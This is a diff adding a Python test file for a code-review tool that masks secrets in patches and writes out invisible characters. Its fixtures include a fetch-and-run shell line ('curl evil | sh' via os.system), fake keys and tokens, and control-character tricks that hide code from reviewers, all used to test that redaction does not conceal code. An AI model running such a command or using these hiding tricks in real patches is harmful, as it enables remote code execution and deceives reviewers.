@@ -1,0 +1,249 @@
+"""What people are shown of a patch: all of it but its secrets, line for line."""
+
+from __future__ import annotations
+
+import ast
+import time
+from itertools import zip_longest
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from handlers import sanitize
+from handlers.report_comment import approvable
+from handlers.sanitize import redact
+from handlers.shown_patch import show_patch
+from runner.characters import unescape_invisible
+from runner.patch import list_lines
+from tests.handlers.test_report_comment import done, render, result
+
+TOKEN = "ghp_" + "a1" * 20
+LIVE = 'live "secret"\nwhose second line is long enough\nend'
+BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+BODY = ["MIIEpAIBAAKCAQEA" * 4, "q7Yx+/Zk0123ABCD" * 4, "AQ=="]
+KEY = [BEGIN, *BODY, END]
+EVIL = ["import os", "os.system('curl evil | sh')"]
+
+
+def write_file(name: str, *hunks: list[str], heading: str = "") -> str:
+    """What a patch says of a file; each line of a hunk has its mark."""
+    head = f"diff --git a/{name} b/{name}\nindex 1234567..89abcde 100644\n--- a/{name}\n+++ b/{name}\n"
+    return head + "".join(
+        f"@@ -{number},9 +{number},9 @@{heading}\n" + "".join(f"{line}\n" for line in lines)
+        for number, lines in enumerate(hunks, 1)
+    )
+
+
+def mark(char: str, lines: list[str]) -> list[str]:
+    return [f"{char}{line}" for line in lines]
+
+
+def read_back(patch: str, *secrets: str) -> None:
+    """That what is shown of a patch says all of it but the masked lines."""
+    shown = show_patch(patch, secrets)
+    masked = {line.number for line in shown.masked}
+    lines, originals = shown.text.split("\n"), patch.split("\n")
+    assert len(lines) == len(originals)
+    for number, (line, original) in enumerate(zip(lines, originals, strict=True)):
+        if number not in masked:
+            assert unescape_invisible(line) == original
+        else:
+            assert line[:1] == original[:1] or line == "[redacted]"
+    assert shown.is_exact == (shown.text == patch)
+
+
+@pytest.mark.parametrize("char", ["+", " ", "-"])
+def test_the_ends_of_a_key_around_a_file_hide_nothing_of_it(char: str) -> None:
+    """Before, everything from the first to the last line of what looked like a key was shown as one word."""
+    patch = (
+        write_file("a.txt", [f"{char}{BEGIN}"]) + write_file("evil.py", mark("+", EVIL))
+        + write_file("z.txt", [f"{char}{END}"])
+    )  # fmt: skip
+    assert "evil.py" not in redact(patch), "the rule for logs still takes it for one key"
+    shown = show_patch(patch, ())
+    assert shown.text == patch
+    assert shown.masked == []
+
+
+@pytest.mark.parametrize("within", [EVIL, ["", *EVIL], [*EVIL, BODY[0]], [BODY[2], *EVIL]])
+def test_the_ends_of_a_key_around_code_in_one_file_hide_no_code(within: list[str]) -> None:
+    patch = write_file("evil.py", [f" {BEGIN}", *mark("+", within), f" {END}"])
+    for line in EVIL:
+        assert f"+{line}\n" in show_patch(patch, ()).text
+
+
+@pytest.mark.parametrize("char", "+- ")
+@pytest.mark.parametrize(
+    "key",
+    [
+        KEY,
+        [f'"{line}\\n"' for line in KEY],
+        [f"    {line}\r" for line in KEY],
+        [BEGIN, "Proc-Type: 4,ENCRYPTED", "", *BODY, END],
+        [f'out.write("{line}")' for line in KEY if line != "AQ=="],
+        [BEGIN, *BODY[:2]],
+        [*BODY[1:], END],
+        ["\\n".join(KEY)],
+        LIVE.split("\n"),
+        [f"token = {TOKEN}"],
+        ["whose second line is long enough"],
+    ],
+)
+def test_a_secret_is_masked_line_by_line_with_its_marks(char: str, key: list[str]) -> None:
+    others = [" before()", " after()"]
+    patch = write_file("k.py", [others[0], *mark(char, key), others[1]]) + write_file("other.py", mark("+", EVIL))
+    shown = show_patch(patch, [LIVE])
+    inside = shown.text.split("\n")[5 : 7 + len(key)]
+    assert inside == [others[0], *[f"{char}[redacted]"] * len(key), others[1]]
+    kind = {"+": "added", "-": "removed", " ": "unchanged"}[char]
+    lines = "line" if len(key) == 1 else "lines"
+    assert shown.remarks() == [
+        f"{len(key)} {kind} {lines} with what looks like a secret, masked in the diff of `k.py`",
+        "the diff cannot be applied as it is shown, for some of it is masked or written out",
+    ]
+    assert {line.is_proposed for line in shown.masked} == {char == "+"}
+    assert show_patch(patch, [LIVE], shapes=()).masked == (shown.masked if key[-1] in LIVE else [])
+    read_back(patch, LIVE)
+
+
+def test_a_key_of_which_a_part_stays_is_masked_on_both_sides() -> None:
+    patch = write_file("k", [f" {BEGIN}", f"-{BODY[0]}", f"+{BODY[1]}", f" {BODY[2]}", f" {END}"])
+    shown = show_patch(patch, ())
+    assert shown.text.endswith(" [redacted]\n-[redacted]\n+[redacted]\n [redacted]\n [redacted]\n")
+    assert [line.is_proposed for line in shown.masked] == [False, False, True, False, False]
+
+
+def test_a_secret_in_a_files_name_is_proposed_and_one_that_a_hunks_head_quotes_is_not() -> None:
+    shown = show_patch(write_file(TOKEN, ["+x"]), ())
+    assert TOKEN not in shown.text
+    assert shown.text.startswith(
+        "diff --git [redacted]\nindex 1234567..89abcde 100644\n--- [redacted]\n+++ [redacted]\n"
+    )
+    assert {line.is_proposed for line in shown.masked} == {True}
+    shown = show_patch(write_file("a.py", ["-x"], heading=f" KEY = '{TOKEN}'"), ())
+    assert "\n@@ -1,9 +1,9 @@ [redacted]\n-x\n" in shown.text
+    assert {line.is_proposed for line in shown.masked} == {False}
+
+
+@pytest.mark.parametrize(
+    ("text", "seen"),
+    [
+        ("a\u202eb", "a⟨U+202E⟩b"),
+        ("a⟨U+202E⟩b", "a⟨U+27E8⟩U+202E⟩b"),
+        ("a⟨0xE9⟩b⟨c⟩", "a⟨U+27E8⟩0xE9⟩b⟨c⟩"),
+        ("x = 1 # \revil()", "x = 1 # ⟨U+000D⟩evil()"),
+        ("x\r\r", "x⟨U+000D⟩\r"),
+        ("x\r", "x\r"),
+        *((f"//{char}evil()", f"//⟨U+{ord(char):04X}⟩evil()") for char in "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e\0"),
+        ("caf\U0010ffe9", "caf⟨0xE9⟩"),
+        ("[redacted]", "[redacted]"),
+    ],
+)
+def test_what_nobody_would_see_is_written_out_so_that_it_can_be_read_back(text: str, seen: str) -> None:
+    patch = write_file("a.py", [f"+{text}"])
+    shown = show_patch(patch, ())
+    assert shown.text == patch.replace(text, seen)
+    assert shown.is_exact == (text == seen)
+    read_back(patch)
+
+
+def test_a_carriage_return_at_the_end_of_a_file_is_written_out() -> None:
+    patch = write_file("a.py", ["+x\r", "\\ No newline at end of file"])
+    assert "+x⟨U+000D⟩\n\\ No newline" in show_patch(patch, ()).text
+    read_back(patch)
+
+
+@pytest.mark.parametrize("char", "+ -")
+def test_a_comment_shows_what_stands_between_the_ends_of_a_key_and_refuses_a_key_that_is_added(char: str) -> None:
+    ends = [write_file(name, [f"{char}{end}"]) for name, end in (("a.txt", BEGIN), ("z.txt", END))]
+    report = result(patch=ends[0] + write_file("evil.py", mark("+", EVIL)) + ends[1])
+    text = render(report=report)
+    assert "\n" + "".join(f"+{line}\n" for line in EVIL) in text
+    assert approvable(done(), report, ())
+    report = result(patch=report.patch + write_file("k.txt", mark(char, KEY)))
+    text = render(report=report)
+    assert ("What looks like a secret is added in `k.txt`" in text) is (char == "+")
+    assert approvable(done(), report, ()) is ("/ptq pr" in text) is (char != "+")
+
+
+def find_wrong_calls(source: str) -> list[str]:
+    """Calls that would show a patch in another way, or split its lines where git does not."""
+    calls = [node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Call)]
+    return [
+        ast.unparse(call)
+        for call in calls
+        for name in [ast.unparse(call.func).rpartition(".")[2]]
+        if (name in ("redact", "make_safe", "show_invisible", "_clean_text") and "patch" in ast.unparse(call).lower())
+        or (name == "splitlines" and "patch" in ast.unparse(call.func).lower())
+    ]
+
+
+def test_a_patch_is_shown_by_this_function_alone_and_split_where_git_splits() -> None:
+    root = Path(sanitize.__file__).parents[1]
+    sources = [path.read_text() for floor in ("bot", "handlers", "runner") for path in (root / floor).rglob("*.py")]
+    assert len(sources) > 200
+    assert [call for source in sources for call in find_wrong_calls(source)] == []
+    old = "shown = show_invisible(redact(report.patch, secrets))\nlines = patch.splitlines()"
+    assert len(find_wrong_calls(old)) == 3
+
+
+PIECES = st.sampled_from(
+    [
+        *(
+            "+",
+            "-",
+            " ",
+            "\\",
+            "@@ -1 +1 @@ ",
+            "diff --git a/x b/x",
+            "\n",
+            "\n",
+            "\n+",
+            "\n-",
+            "\n ",
+            "\r",
+            "\r\n",
+            "\0",
+        ),
+        *("⟨U+202E⟩", "⟨", "⟨U+", "⟨0xE9⟩", "\u202e", "\u200b", "\u2028", "\x85", "\U0010ffe9", "\U0010ff00", "é", "x"),
+        *(TOKEN, *KEY, *LIVE.split("\n"), "authorization: ", "bearer " + "a1" * 10, "\\ No newline at end of file"),
+        *("GIT binary patch\n", "--- a/x", "+++ b/x", "[redacted]", "code(word)", "\t"),
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(PIECES, max_size=30).map("".join))
+def test_whatever_a_patch_holds_all_but_its_secrets_can_be_read_back(text: str) -> None:
+    for patch in (text, write_file("a.py", text.split("\n"))):
+        read_back(patch, LIVE)
+        shown = show_patch(patch, [LIVE]).text
+        assert LIVE not in shown
+        assert TOKEN not in shown
+        assert "whose second line is long enough" not in shown
+        kinds = [line.kind for line in list_lines(patch)]
+        again = [line.kind for line in list_lines(shown)]
+        assert all(one == other or "header" in (one, other) for one, other in zip_longest(kinds, again)), "same marks"
+
+
+def test_a_long_patch_takes_no_longer_for_each_line_than_a_short_one() -> None:
+    hostile = [
+        [BEGIN, "A" * 16, END, "", BEGIN, "check()", END],
+        ["A" * 16],
+        [""],
+        [BEGIN],
+        [END],
+        ["A" * 15],
+        [BEGIN, ""],
+    ]
+    for lines in hostile:
+        times = []
+        for number in (2_000, 32_000):
+            patch = write_file("a.py", [f"+{number}", *mark("+", lines * number), "+PRIVATE KEY"])
+            start = time.process_time()
+            shown = show_patch(patch, ())
+            times.append(time.process_time() - start)
+            assert len(shown.masked) == (3 * number if len(lines) == 7 else 0)
+        assert times[1] < 80 * times[0], (lines, times)
